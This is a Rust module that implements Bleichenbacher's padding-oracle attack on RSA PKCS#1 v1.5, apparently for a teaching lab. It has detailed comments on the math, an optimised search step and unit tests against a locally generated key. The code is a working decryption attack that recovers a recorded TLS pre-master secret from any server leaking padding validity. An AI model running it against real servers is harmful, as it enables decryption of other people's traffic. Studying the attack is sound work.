//! Bleichenbacher's 1998 attack on RSA PKCS#1 v1.5 encryption ("Chosen Ciphertext Attacks
//! Against Protocols Based on the RSA Encryption Standard PKCS #1", CRYPTO '98), written out.
//!
//! # What the attacker has
//! A ciphertext `c0` it recorded (the ClientKeyExchange of someone else's connection), the
//! server's public key `(n, e)`, and a *padding oracle*: some way to ask, for any ciphertext
//! `c` of its choice, whether `c^d mod n` starts with the bytes `00 02`. A server that answers a
//! badly padded ClientKeyExchange differently from a well padded one (a different alert, a
//! different moment, a different time) is such an oracle. RFC 5246 7.4.7.1 exists so that a TLS
//! server is not one.
//!
//! # Why one bit is enough
//! RSA is multiplicative: `(c0 * s^e)^d = m0 * s (mod n)`. So the attacker can ask about `m0 * s`
//! for any `s` it likes without knowing `m0`. Let `k` be the modulus length in bytes and
//! `B = 2^(8(k-2))`. A block that starts `00 02` is a number in `[2B, 3B)`. Each "yes" for an `s`
//! says `2B <= m0 * s - r*n < 3B` for some integer `r`: a linear inequality in the unknown `m0`,
//! which confines it to a union of narrow intervals. Each further "yes" for a larger `s`
//! narrows them, and once one interval of width about `2B/s` remains, every answer about halves
//! it. After about `8k` halvings one number is left: the plaintext.
//!
//! # The steps, as in the paper
//! 1. **Blinding.** Find `s0` such that `c0 * s0^e` is conforming; the attack then recovers
//!    `m0 * s0` and divides by `s0` at the end. A recorded ClientKeyExchange conforms already,
//!    so `s0 = 1` and this costs one query. The known interval is `M = {[2B, 3B - 1]}`.
//! 2. **Searching for conforming messages.**
//!    - 2.a (the first time): the smallest `s1 >= n / 3B` that conforms. Smaller `s` cannot work:
//!      `m0 * s` would still be below `n`, i.e. `r = 0`, and no new information.
//!    - 2.b (several intervals left): the next `s > s_{i-1}` that conforms.
//!    - 2.c (one interval `[a, b]` left): choose `r` and `s` so that `m0 * s - r*n` would land in
//!      `[2B, 3B)` if `m0` lay in the interval; for such `s` about one query in two says yes.
//! 3. **Narrowing.** For every interval `[a, b]` of `M` and every `r` that the new `s` allows,
//!    keep `[max(a, (2B + r*n)/s), min(b, (3B - 1 + r*n)/s)]`.
//! 4. **Done** when `M` is one interval of one number `a`: `m0 = a * s0^-1 mod n`.
//!
//! Step 2.a dominates the cost: the chance that a random `m0 * s mod n` conforms is about
//! `B / n`, one in 2^15 to 2^16, divided further by whatever else the oracle checks (see
//! [`Oracle`]). Steps 2.c and 3 then cost a few queries per bit of the modulus.
//!
//! # One standard optimisation: skipping holes
//! Bardou, Focardi, Kawamoto, Simionato, Steel and Tsay ("Efficient Padding Oracle Attacks on
//! Cryptographic Hardware", CRYPTO 2012) note that in step 2.a, for a given `r`, only
//! `s` in `[(2B + r*n) / (3B - 1), (3B - 1 + r*n) / 2B]` can conform (with `m0` anywhere in
//! `[2B, 3B)`). Between the range for `r = 1` and the one for `r = 2` lies a hole of about
//! `n / 6B` values of `s` that cannot possibly conform; we never ask about them. Their other
//! improvement, *trimming* the first interval with fractions `u/t`, is left out: it saves
//! queries in 2.a for strict oracles but makes the code harder to follow, and the lab's key is
//! small enough without it.
//!
//! This module knows nothing of TLS: the oracle is a closure. [`crate::lab::oracle`] makes one
//! out of a TLS server's alerts; the unit tests make one out of [`RsaPrivateKey`] directly.
//!
//! [`RsaPrivateKey`]: crate::crypto::rsa::RsaPrivateKey

use crate::crypto::rsa::RsaPublicKey;
use num_bigint::BigUint;

/// What an oracle query may fail with besides "yes" or "no": the transport, or the budget.
#[derive(Debug)]
pub enum AttackError<E> {
    /// The oracle itself failed (a connection could not be made, ...).
    Oracle(E),
    /// The attack asked `queries` questions, its budget, without finishing.
    OutOfQueries { queries: u64 },
    /// The answers contradict each other: no plaintext fits them all. An oracle that answers
    /// at random (or one that answers everything the same way) ends here.
    Inconsistent { queries: u64 },
}

impl<E: std::fmt::Display> std::fmt::Display for AttackError<E> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            AttackError::Oracle(e) => write!(f, "the oracle failed: {e}"),
            AttackError::OutOfQueries { queries } => {
                write!(f, "gave up after {queries} queries without a result")
            }
            AttackError::Inconsistent { queries } => write!(
                f,
                "after {queries} queries the answers contradict each other: the oracle tells nothing"
            ),
        }
    }
}

/// The kinds of oracle the literature distinguishes (Bardou et al. 2012 name them by three
/// letters). Only the attacker's expectations depend on it, never the math: every "yes" must
/// mean at least "starts with `00 02`", which is all the attack uses.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Oracle {
    /// "Yes" for every block that starts with `00 02` (Bardou's TTT): the strongest oracle.
    StartsWith0002,
    /// "Yes" only for a block PKCS#1 v1.5 accepts: `00 02`, eight nonzero padding bytes, then a
    /// zero separator somewhere (Bardou's FFT). Bleichenbacher's paper assumes this one.
    Pkcs1Conforming,
}

/// A milestone of the attack, for narration.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Progress {
    /// Step 1: the recorded ciphertext conforms as it is (`s0 = 1`), or after blinding.
    Blinded { s0_is_one: bool, queries: u64 },
    /// Step 2.a found `s1`: the first multiple of the plaintext that conforms.
    FirstConforming { s1: BigUint, queries: u64 },
    /// After step 3 of iteration `i`: `intervals` intervals remain, the widest spanning
    /// `width_bits` bits.
    Narrowed {
        iteration: u64,
        intervals: usize,
        width_bits: u64,
        queries: u64,
    },
    /// Step 4: the plaintext block is known.
    Done { queries: u64 },
}

/// What the attack found.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Recovered {
    /// The whole decrypted block, `k` bytes, `00 02 || padding || 00 || message`.
    pub block: Vec<u8>,
    /// Oracle queries used, the first (step 1) included.
    pub queries: u64,
    /// Queries spent in step 2.a alone.
    pub queries_step_2a: u64,
    /// Iterations of steps 2 and 3.
    pub iterations: u64,
}

impl Recovered {
    /// The message inside the block (after the first zero byte past the padding), if the block
    /// is PKCS#1 v1.5 conforming.
    pub fn message(&self) -> Option<&[u8]> {
        let b = &self.block;
        if b.len() < 11 || b[0] != 0 || b[1] != 2 {
            return None;
        }
        let sep = b[2..].iter().position(|&x| x == 0)? + 2;
        (sep >= 10).then(|| &b[sep + 1..])
    }
}

/// `ceil(a / b)`.
fn ceil_div(a: &BigUint, b: &BigUint) -> BigUint {
    (a + b - 1u32) / b
}

/// One run of the attack against one ciphertext.
pub struct Attack<'o, E> {
    n: BigUint,
    e: BigUint,
    /// The modulus length in bytes.
    k: usize,
    two_b: BigUint,
    three_b: BigUint,
    c0: BigUint,
    oracle: &'o mut dyn FnMut(&[u8]) -> Result<bool, E>,
    queries: u64,
    budget: u64,
}

impl<'o, E> Attack<'o, E> {
    /// An attack on `ciphertext` (exactly `k` bytes) under `key`, asking `oracle` at most
    /// `budget` questions. The oracle gets a ciphertext of `k` bytes and says whether it
    /// decrypts to a block starting `00 02`.
    pub fn new(
        key: &RsaPublicKey,
        ciphertext: &[u8],
        budget: u64,
        oracle: &'o mut dyn FnMut(&[u8]) -> Result<bool, E>,
    ) -> Self {
        let k = key.modulus_len();
        let b = BigUint::from(1u32) << (8 * (k - 2));
        Attack {
            n: BigUint::from_bytes_be(&key.n_be_bytes()),
            e: BigUint::from_bytes_be(&key.e_be_bytes()),
            k,
            two_b: &b * 2u32,
            three_b: &b * 3u32,
            c0: BigUint::from_bytes_be(ciphertext),
            oracle,
            queries: 0,
            budget,
        }
    }

    /// Asks the oracle about `c0 * s^e mod n`, the ciphertext of `m0 * s`.
    fn conforms(&mut self, s: &BigUint) -> Result<bool, AttackError<E>> {
        if self.queries >= self.budget {
            return Err(AttackError::OutOfQueries {
                queries: self.queries,
            });
        }
        self.queries += 1;
        let c = (&self.c0 * s.modpow(&self.e, &self.n)) % &self.n;
        let mut bytes = vec![0u8; self.k];
        let be = c.to_bytes_be();
        bytes[self.k - be.len()..].copy_from_slice(&be);
        (self.oracle)(&bytes).map_err(AttackError::Oracle)
    }

    /// Runs steps 1 to 4, telling `progress` about each milestone.
    pub fn run(mut self, progress: &mut dyn FnMut(Progress)) -> Result<Recovered, AttackError<E>> {
        // Step 1. A recorded ClientKeyExchange conforms, so s0 = 1; otherwise blind it with
        // s0 = 2, 3, ... (the paper draws s0 at random; any s0 the oracle accepts will do).
        let mut s0 = BigUint::from(1u32);
        while !self.conforms(&s0)? {
            s0 += 1u32;
        }
        if s0 != BigUint::from(1u32) {
            self.c0 = (&self.c0 * s0.modpow(&self.e, &self.n)) % &self.n;
        }
        progress(Progress::Blinded {
            s0_is_one: s0 == BigUint::from(1u32),
            queries: self.queries,
        });

        let mut intervals = vec![(self.two_b.clone(), &self.three_b - 1u32)];
        let before_2a = self.queries;
        let mut s = self.step_2a()?;
        let queries_step_2a = self.queries - before_2a;
        progress(Progress::FirstConforming {
            s1: s.clone(),
            queries: self.queries,
        });
        let mut iteration = 1u64;
        loop {
            intervals = self.narrow(&intervals, &s);
            if intervals.is_empty() {
                return Err(AttackError::Inconsistent {
                    queries: self.queries,
                });
            }
            let width_bits = intervals
                .iter()
                .map(|(a, b)| (b - a).bits())
                .max()
                .unwrap_or(0);
            progress(Progress::Narrowed {
                iteration,
                intervals: intervals.len(),
                width_bits,
                queries: self.queries,
            });
            // Step 4.
            if intervals.len() == 1 && intervals[0].0 == intervals[0].1 {
                let s0_inv = s0.modinv(&self.n).ok_or(AttackError::Inconsistent {
                    queries: self.queries,
                })?;
                let m = (&intervals[0].0 * s0_inv) % &self.n;
                let mut block = vec![0u8; self.k];
                let be = m.to_bytes_be();
                block[self.k - be.len()..].copy_from_slice(&be);
                progress(Progress::Done {
                    queries: self.queries,
                });
                return Ok(Recovered {
                    block,
                    queries: self.queries,
                    queries_step_2a,
                    iterations: iteration,
                });
            }
            iteration += 1;
            s = if intervals.len() > 1 {
                self.step_2b(&s)?
            } else {
                let (a, b) = intervals[0].clone();
                self.step_2c(&a, &b, &s)?
            };
        }
    }

    /// Step 2.a, skipping holes: for r = 1, 2, ... only `s` in
    /// `[(2B + r*n) / (3B - 1), (3B - 1 + r*n) / 2B]` can conform; the first candidate is
    /// `n / 3B` rounded up, as in the paper.
    fn step_2a(&mut self) -> Result<BigUint, AttackError<E>> {
        let mut s = ceil_div(&self.n, &self.three_b);
        let mut r = BigUint::from(1u32);
        loop {
            let low = ceil_div(&(&self.two_b + &r * &self.n), &(&self.three_b - 1u32));
            let high = (&self.three_b - 1u32 + &r * &self.n) / &self.two_b;
            if s < low {
                s = low;
            }
            while s <= high {
                if self.conforms(&s)? {
                    return Ok(s);
                }
                s += 1u32;
            }
            r += 1u32;
        }
    }

    /// Step 2.b: the next `s` after the previous one that conforms.
    fn step_2b(&mut self, prev: &BigUint) -> Result<BigUint, AttackError<E>> {
        let mut s = prev + 1u32;
        while !self.conforms(&s)? {
            s += 1u32;
        }
        Ok(s)
    }

    /// Step 2.c: one interval `[a, b]` left. `r` starts at `2 (b*s - 2B) / n`, which makes the
    /// next `s` about twice the previous one (and so halves the interval); for each `r` try
    /// `s` from `(2B + r*n) / b` to `(3B - 1 + r*n) / a`.
    fn step_2c(
        &mut self,
        a: &BigUint,
        b: &BigUint,
        prev: &BigUint,
    ) -> Result<BigUint, AttackError<E>> {
        let mut r = ceil_div(&((b * prev - &self.two_b) * 2u32), &self.n);
        loop {
            let rn = &r * &self.n;
            let mut s = ceil_div(&(&self.two_b + &rn), b);
            let high = (&self.three_b - 1u32 + &rn) / a;
            while s <= high {
                if self.conforms(&s)? {
                    return Ok(s);
                }
                s += 1u32;
            }
            r += 1u32;
        }
    }

    /// Step 3: what "m0 * s conforms" leaves of each interval, merged where they overlap.
    fn narrow(&self, intervals: &[(BigUint, BigUint)], s: &BigUint) -> Vec<(BigUint, BigUint)> {
        let mut out: Vec<(BigUint, BigUint)> = Vec::new();
        for (a, b) in intervals {
            // r from (a*s - 3B + 1) / n (rounded up) to (b*s - 2B) / n (rounded down). Both
            // numerators are positive: a >= 2B and s >= 2.
            let mut r = ceil_div(&(a * s + 1u32 - &self.three_b), &self.n);
            let r_high = (b * s - &self.two_b) / &self.n;
            while r <= r_high {
                let rn = &r * &self.n;
                let low = ceil_div(&(&self.two_b + &rn), s).max(a.clone());
                let high = ((&self.three_b - 1u32 + &rn) / s).min(b.clone());
                if low <= high {
                    out.push((low, high));
                }
                r += 1u32;
            }
        }
        out.sort();
        let mut merged: Vec<(BigUint, BigUint)> = Vec::with_capacity(out.len());
        for (a, b) in out {
            match merged.last_mut() {
                Some((_, hb)) if a <= &*hb + 1u32 => {
                    if b > *hb {
                        *hb = b;
                    }
                }
                _ => merged.push((a, b)),
            }
        }
        merged
    }
}

/// The textbook RSA encryption of the block `m` (exactly `k` bytes, below `n`), with no padding
/// added: how the attacker makes ciphertexts of blocks of its choice, well padded or not, to
/// calibrate a suspected oracle. Only the public key is involved.
pub fn encrypt_raw(key: &RsaPublicKey, block: &[u8]) -> Vec<u8> {
    let n = BigUint::from_bytes_be(&key.n_be_bytes());
    let e = BigUint::from_bytes_be(&key.e_be_bytes());
    let c = BigUint::from_bytes_be(block).modpow(&e, &n);
    let k = key.modulus_len();
    let mut out = vec![0u8; k];
    let be = c.to_bytes_be();
    out[k - be.len()..].copy_from_slice(&be);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::crypto::rsa::RsaPrivateKey;
    use rand::SeedableRng;
    use rand::rngs::StdRng;

    /// The paper's oracle, straight from our own RSA: "does this decrypt to a block PKCS#1 v1.5
    /// accepts?" (`decrypt_pkcs1v15` has one error for every failure, which is still one bit).
    /// Seed 8 is a key and ciphertext that need about 9,000 queries (most seeds need far more:
    /// step 2.a's search is luck), so that the test takes seconds.
    #[test]
    fn recovers_a_pre_master_secret_through_a_pkcs1_oracle() {
        let mut rng = StdRng::seed_from_u64(8);
        let key = RsaPrivateKey::generate(&mut rng, 1024).unwrap();
        let public = key.public_key();
        let secret: Vec<u8> = (0..48).map(|i| i as u8 ^ 0x5a).collect();
        let c0 = public.encrypt_pkcs1v15(&mut rng, &secret).unwrap();
        let mut oracle =
            |c: &[u8]| -> Result<bool, ()> { Ok(key.decrypt_pkcs1v15(&mut rng, c).is_ok()) };
        let mut log = Vec::new();
        let r = Attack::new(&public, &c0, 100_000, &mut oracle)
            .run(&mut |p| log.push(p))
            .unwrap();
        assert_eq!(r.message(), Some(&secret[..]));
        assert_eq!(r.block.len(), 128);
        assert_eq!(
            log.first(),
            Some(&Progress::Blinded {
                s0_is_one: true,
                queries: 1
            })
        );
        assert!(matches!(log.last(), Some(Progress::Done { .. })));
        assert!(r.queries_step_2a < r.queries);
        // Every narrowing step leaves one interval no wider than the last.
        let widths: Vec<u64> = log
            .iter()
            .filter_map(|p| match p {
                Progress::Narrowed {
                    intervals: 1,
                    width_bits,
                    ..
                } => Some(*width_bits),
                _ => None,
            })
            .collect();
        assert!(widths.windows(2).all(|w| w[1] <= w[0]));
        assert_eq!(widths.last(), Some(&0));
    }

    /// An oracle that never says yes gives nothing to work with: the attack stops at its budget.
    #[test]
    fn an_oracle_that_tells_nothing_gets_nowhere() {
        let mut rng = StdRng::seed_from_u64(3);
        let key = RsaPrivateKey::generate(&mut rng, 1024).unwrap();
        let public = key.public_key();
        let c0 = public.encrypt_pkcs1v15(&mut rng, &[7u8; 48]).unwrap();
        let mut never = |_: &[u8]| -> Result<bool, ()> { Ok(false) };
        match Attack::new(&public, &c0, 500, &mut never).run(&mut |_| {}) {
            Err(AttackError::OutOfQueries { queries }) => assert_eq!(queries, 500),
            other => panic!("{:?}", other.map(|r| r.queries)),
        }
    }

    #[test]
    fn message_is_read_only_from_a_conforming_block() {
        let mut block = vec![0u8, 2];
        block.extend([0x11; 9]);
        block.push(0);
        block.extend([0xaa; 4]);
        let r = |b: &[u8]| Recovered {
            block: b.to_vec(),
            queries: 0,
            queries_step_2a: 0,
            iterations: 0,
        };
        assert_eq!(r(&block).message(), Some(&[0xaa; 4][..]));
        // Padding too short (a zero within the first 8 bytes), or the wrong block type.
        let mut short = block.clone();
        short[5] = 0;
        assert_eq!(r(&short).message(), None);
        let mut typ = block.clone();
        typ[1] = 1;
        assert_eq!(r(&typ).message(), None);
    }
}
